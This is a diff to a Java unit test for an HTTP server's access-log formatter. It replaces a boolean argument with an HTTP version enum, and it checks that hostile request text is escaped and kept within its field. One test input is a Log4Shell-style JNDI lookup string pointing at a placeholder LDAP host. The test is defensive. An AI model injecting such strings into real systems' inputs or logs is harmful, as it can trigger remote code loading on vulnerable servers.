@@ -5,6 +5,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 import com.fasterxml.jackson.core.JsonFactory;
 import com.fasterxml.jackson.core.JsonParser;
 import com.fasterxml.jackson.core.JsonToken;
+import dev.lychgate.http.HttpVersion;
 import dev.lychgate.server.accesslog.AccessRecord.Request;
 import java.io.IOException;
 import java.time.ZoneOffset;
@@ -33,8 +34,8 @@ class LogInjectionTest {
                 "\t${jndi:ldap://a.example/x} %n %msg {}"
             })
     void keepsHostileTextWithinItsFieldAndItsLine(String hostile) throws IOException {
-        AccessRecord record =
-                Records.of(new Request("GET", hostile, "/" + hostile, hostile, false, hostile, hostile), 200, null);
+        AccessRecord record = Records.of(
+                new Request("GET", hostile, "/" + hostile, hostile, HttpVersion.HTTP_1_1, hostile, hostile), 200, null);
 
         String combined = LineFormatTest.combined(record, ZoneOffset.UTC);
         assertThat(combined).matches("[ -~]*").matches(COMBINED);
@@ -54,8 +55,10 @@ class LogInjectionTest {
 
     @Test
     void writesEscapesInTheFormOfEachFormat() {
-        AccessRecord record =
-                Records.of(new Request("GET", "h", "/\"\\\n\u00e9\u20ac\u007f", null, false, null, null), 200, null);
+        AccessRecord record = Records.of(
+                new Request("GET", "h", "/\"\\\n\u00e9\u20ac\u007f", null, HttpVersion.HTTP_1_1, null, null),
+                200,
+                null);
         assertThat(LineFormatTest.json(record)).contains("\"path\":\"/\\u0022\\u005c\\u000a\\u00e9\\u20ac\\u007f\"");
         assertThat(LineFormatTest.combined(record, ZoneOffset.UTC))
                 .contains("\"GET /\\x22\\x5C\\x0A\\xE9\\xE2\\x82\\xAC\\x7F HTTP/1.1\"");
